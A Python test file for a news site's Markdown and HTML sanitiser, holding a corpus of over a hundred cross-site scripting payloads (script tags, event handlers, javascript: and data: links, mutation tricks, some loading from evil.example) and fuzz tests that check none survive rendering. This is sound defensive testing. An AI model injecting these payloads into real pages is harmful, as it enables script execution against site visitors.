"""Nothing active, foreign or forged in a body reaches a page, and what was taken away is said."""

from __future__ import annotations

import re

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from townpress.editorial.markup import Body, blocks, render
from townpress.editorial.markup.vocabulary import ATTRIBUTES, TAGS
from townpress.kernel.problems import Problem, Severity
from townpress.kernel.source import Source

URL = "https://news.zoucheng.example/x/"

# The judge of the tests: the documented list, with what we add after sanitising. It is built apart from the sanitiser.
_JUDGE = nh3.Cleaner(
    tags=set(TAGS - {"div", "span"}) | {"span", "img"},
    attributes={
        **{tag: set(names) for tag, names in ATTRIBUTES.items() if tag not in {"img", "td", "th"}},
        "a": {"href", "title", "rel", "lang"},
        "span": {"class"},
        "td": {"colspan", "rowspan", "class"},
        "th": {"colspan", "rowspan", "scope", "class"},
        **{tag: {"id"} for tag in ("h2", "h3", "h4", "h5", "h6", "li", "sup")},
    },
    url_schemes={"http", "https", "mailto", "tel"},
    link_rel=None,
)


def printed(text: str) -> tuple[str, tuple[Problem, ...]]:
    """The HTML of a body with every link resolved, and the problems."""
    body, problems = render(Source("content/a.md", text), text, 1)
    return html_of(body), problems


def html_of(body: Body) -> str:
    """All HTML of the blocks."""
    return "".join(str(block.html) for block in blocks(body, {link.target: URL for link in body.links}, {}))


def codes(problems: tuple[Problem, ...]) -> set[str]:
    """The codes of problems."""
    return {problem.code for problem in problems}


_CORPUS = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script\n>alert(1)</script\n>
<<script>alert(1);//<</script>
<script>alert(1)
</script ><script>alert(2)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" />
<IMG SRC="javascript:alert('1')">
<img src=x:x onerror\u000b=alert(1)>
<img/src/onerror=alert(1)>
<img src=`javascript:alert(1)`>
<img \"\"\"><script>alert(1)</script>">
<img src=x onerror="&#97;lert(1)">
<img srcset="https://evil.example/x.jpg 1x" src=a.jpg>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg/onload=alert(1)//
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<textarea></textarea><img src=x onerror=alert(1)>
<title><a title="</title><img src=x onerror=alert(1)>"></title>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href="https://evil.example/x.css">
<style>body{background:url(javascript:alert(1))}</style>
<style>@import 'https://evil.example/x.css';</style>
<p style="background:url(https://evil.example/x.png)">x</p>
<div style="width:expression(alert(1))">x</div>
<body onload=alert(1)>
<html onclick=alert(1)><head><title>x</title></head>
<input onfocus=alert(1) autofocus>
<button formaction=javascript:alert(1)>x</button>
<form action="https://evil.example/"><input name=q></form>
<select onfocus=alert(1) autofocus><option>x</select>
<keygen onfocus=alert(1) autofocus>
<video src=x onerror=alert(1)></video>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<isindex action=javascript:alert(1) type=image>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>
<a href='x' target=_blank ping=https://evil.example/>x</a>
<p id="masthead" class="lead" onclick=alert(1)>x</p>
<p onclick\n=alert(1)>x</p>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo '<script>alert(1)</script>' ?>
<x onclick=alert(1)>x</x>
<custom-element onclick=alert(1)>x</custom-element>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>
<b><p title="</b><script>alert(1)</script>">x</p></b>
<ruby onclick=alert(1)>x<rt>y</ruby>
<plaintext><script>alert(1)</script>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](<javascript:alert(1)>)
[x](java&#115;cript:alert(1))
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](\x01javascript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](vbscript:msgbox(1))
[x]( javascript:alert(1) "title")
[x](http://a.example/" onclick="alert(1))
[x](http://a.example/ "t" onclick="alert(1)")
[x](http://a.example/'onclick='alert(1))
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x" onerror="alert(1)](a.jpg)
![x](a.jpg "x" onerror="alert(1)")
![x](a.jpg\" onerror=\"alert(1))
<javascript:alert(1)>
<data:text/html,x>
<https://a.example/" onclick="alert(1)>
[x][1]\n\n[1]: javascript:alert(1)
[x][1]\n\n[1]: <javascript:alert(1)> "t"
# x {: onclick=alert(1) }
[x](y){: onclick=alert(1) }
```x" onclick="alert(1)\ncode\n```
``` {.x onclick=alert(1)}\ncode\n```
`<script>alert(1)</script>` <script>alert(2)</script>
[^<script>]\n\n[^<script>]: <script>alert(1)</script>
| a |\n|---|\n| <script>alert(1)</script> |
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script>alert(1)\</script>
**<script>alert(1)</script>**
*[x](javascript:alert(1))*
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
"""

_ESCAPES = {r"\n": "\n", r"\t": "\t", r"\x01": "\x01", r"\u000b": "\x0b", r"\"": '"'}


def _attack(line: str) -> str:
    """A line of the corpus with its escapes undone."""
    for written, meant in _ESCAPES.items():
        line = line.replace(written, meant)
    return line


ATTACKS = [_attack(line) for line in _CORPUS.strip("\n").split("\n")]


def assert_safe(html: str) -> None:
    """No active element, handler or address, by a parser of another make; and nh3 has nothing left to take."""
    if html.strip():
        for element in lxml_html.fragment_fromstring(html, create_parent="div").iter():
            assert isinstance(element.tag, str), html
            assert element.tag in TAGS | {"div"}, html
            for name, value in element.attrib.items():
                assert not name.startswith("on"), html
                assert name not in {"style", "src", "srcset", "srcdoc", "action", "formaction"}, html
                scheme = re.sub(r"[\x00-\x20]", "", value).lower()
                assert name != "href" or not scheme.startswith(("javascript:", "data:", "vbscript:", "blob:")), html
                assert name != "id" or value.startswith("h-"), html
    assert _JUDGE.clean(html) == html


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack: str) -> None:
    """Each line of the corpus, alone and amid Chinese text, leaves nothing active in the page."""
    for text in (attack, f"邹城市民政局\n{attack}\n5月23日", f"第一段。\n\n{attack}\n\n第二段。"):
        html, _ = printed(text)
        assert_safe(html)


def test_corpus_is_large() -> None:
    """The corpus did not shrink unnoticed."""
    assert len(ATTACKS) >= 100


@pytest.mark.parametrize(
    ("text", "code", "column"),
    [
        ("好<script>alert(1)</script>", "W430", 2),
        ("<p onclick='x'>好</p>", "W431", 4),
        ("<p>好</p>\n\n<iframe src=a></iframe>", "W430", 1),
        ('<a href="javascript:alert(1)">好</a>', "W433", 10),
        ("[好](javascript:alert(1))", "E411", 5),
        ("好 <video src='https://a.example/b.mp4'></video>", "E450", 15),
        ("好<script>alert(1)", "E432", 2),
        ("甲<b 和乙>丙", "E432", 2),
        ("<font color=red>好</font>", "W430", 1),
    ],
)
def test_what_was_removed_is_said_with_its_place(text: str, code: str, column: int) -> None:
    """An editor is told what was taken, at its line and column."""
    lead = "第一段。\n\n"
    body_line = 7
    _, problems = render(Source("a.md", lead + text), lead + text, body_line)
    found = [problem for problem in problems if problem.code == code]
    assert found, problems
    assert (found[0].line, found[0].column) == (body_line + 2 + text.count("\n"), column)


def test_code_about_html_is_no_removal() -> None:
    """A tag shown as code is text: kept, escaped, and not warned of."""
    html, problems = printed("写 `<script>alert(1)</script>` 或\n\n```html\n<iframe onload=x></iframe>\n```\n")
    assert "&lt;script&gt;" in html
    assert "&lt;iframe onload=x&gt;" in html
    assert problems == ()


def test_removed_boxes_keep_their_text() -> None:
    """What a page was wrapped in goes; its words stay, as paragraphs of their own."""
    html, _ = printed("<div class=a><center>甲</center><div>乙<font>丙</font></div></div>")
    assert html == "<p>甲</p>\n<p>乙丙</p>"


def test_a_deletion_around_blocks_stays_one() -> None:
    """<del> around paragraphs is not lost with the nesting: struck text must not come back as text."""
    html, _ = printed("<div><del><p>旧一</p><p>旧二</p></del></div>")
    assert html == "<p><del>旧一</del></p>\n<p><del>旧二</del></p>"


def test_placeholders_cannot_be_forged() -> None:
    """Text that looks like our own marks for links and photographs stays text, wherever it stands."""
    forged = '<!--photo 0--> &lt;!--photo 0--&gt; <a title="<!--link 0-->">x</a> `<!--photo 0-->` [y](to0-0)'
    body, _ = render(Source("a.md", forged), forged, 1)
    assert body.photos == ()
    assert len(re.findall(r"<!--", body.html)) == len(body.links)
    assert all(block.photo is None for block in blocks(body, {}, {}))


def test_template_syntax_is_shown_as_typed() -> None:
    """Jinja's marks mean nothing in a body."""
    html, problems = printed("价格 {{ 7*7 }} 元 {% include 'x' %} {# 注 #}")
    assert html == "<p>价格 {{ 7*7 }} 元 {% include 'x' %} {# 注 #}</p>"
    assert problems == ()


TOKENS = (
    *(
        "中文",
        "。",
        "，",
        "“",
        "”",
        '"',
        "'",
        "\n",
        "\n\n",
        " ",
        "    ",
        "\n    ",
        ">",
        "-",
        "1.",
        "#",
        "##",
        "*",
        "**",
        "_",
    ),
    *("`", "```", "[", "]", "(", ")", "![", "](", "<", ">", "</", "&", ";", ":", "|", "a", "b.md", "a.jpg", "http://"),
    *(
        "javascript:",
        "<b>",
        "</b>",
        "<p>",
        "</p>",
        "<div>",
        "<ul>",
        "<li>",
        "<table>",
        "<tr>",
        "<td>",
        "<th>",
        "<caption>",
    ),
    *("<script>", "</script>", "<svg>", "<math>", "<style>", "<a", "<img", "href=", "src=", "onclick=", "<!--", "-->"),
    *(
        "[^1]",
        "[^1]:",
        "<details>",
        "<summary>",
        "<ruby>",
        "<rt>",
        "<dl>",
        "<dt>",
        "<dd>",
        "\\",
        "\x00",
        "\u202e",
        "{{",
        "}}",
    ),
    *("<h2>", "<del>", "<time>", "<blockquote>", "<pre>"),
)
MARKUP = st.lists(st.sampled_from(TOKENS), max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(st.one_of(MARKUP, st.text(max_size=200)))
def test_any_text_comes_out_safe(text: str) -> None:
    """Whatever is typed: no exception, nothing active, and cleaning the result again changes nothing."""
    body, problems = render(Source("a.md", text), text, 1)
    html = html_of(body)
    assert_safe(html)
    assert "<script" not in html.lower()
    assert not re.search(r"<[^>]*\son\w+=", html)
    assert all(problem.line >= 1 and problem.column >= 1 for problem in problems)
    assert render(Source("a.md", text), text, 1) == (body, problems)


@pytest.mark.parametrize("severity", [Severity.ERROR, Severity.WARNING])
def test_messages_speak_both_languages(severity: Severity) -> None:
    """Each problem has a Chinese and an English half."""
    _, problems = printed("\n\n".join(ATTACKS[:40]))
    for problem in (p for p in problems if p.severity is severity):
        assert re.search(r"[\u4e00-\u9fff]", problem.zh)
        assert re.search(r"[a-z]{3}", problem.en)
